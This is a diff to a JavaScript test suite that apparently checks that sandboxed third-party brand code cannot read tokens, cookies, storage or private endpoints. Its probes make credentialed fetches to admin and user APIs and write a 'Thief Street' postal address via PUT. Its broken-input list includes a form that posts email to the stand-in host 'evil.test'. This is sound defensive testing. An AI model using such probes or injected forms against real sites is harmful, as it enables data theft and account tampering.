@@ -107,7 +107,8 @@ const all = async () => {
   }))
   await attempt('caches', async () => (await caches.keys()).join())
   await attempt('serviceWorker', () => navigator.serviceWorker.register('/sw.js'))
-  for (const path of ['/api/user-type', '/api/brands/me', '/api/collected-emails', '/cms-api/users', '/cms-api/brands', '/admin', '/dashboard/main'])
+  const paths = ['/api/user-type', '/api/brands/me', '/api/collected-emails', '/cms-api/users', '/cms-api/brands']
+  for (const path of [...paths, '/admin', '/dashboard/main'])
     await attempt('fetch ' + path, async () => (await fetch(path, { credentials: 'include' })).text())
   await attempt('write', async () => (await fetch('/api/email-settings', { method: 'PUT', credentials: 'include',
     headers: { 'content-type': 'application/json' }, body: '{"postal_address":"1 Thief Street, Town","retention_days":null}' })).text())
@@ -143,7 +144,7 @@ test('a brand’s code reads no token, cookie, storage, private call or frame', 
 
 const BROKEN = [
   'throw new Error("broken")</script><!-- never closed <script>',
-  '<script>window.fetch = null; document.querySelector = null; addEventListener("submit", (e) => e.stopImmediatePropagation(), true)</script>',
+  '<script>window.fetch = null; addEventListener("submit", (e) => e.stopImmediatePropagation(), true)</script>',
   '<script>"<!--<script>"',
   '<style>form { color: ',
   '<form action="https://evil.test"><input name="email"><textarea>',
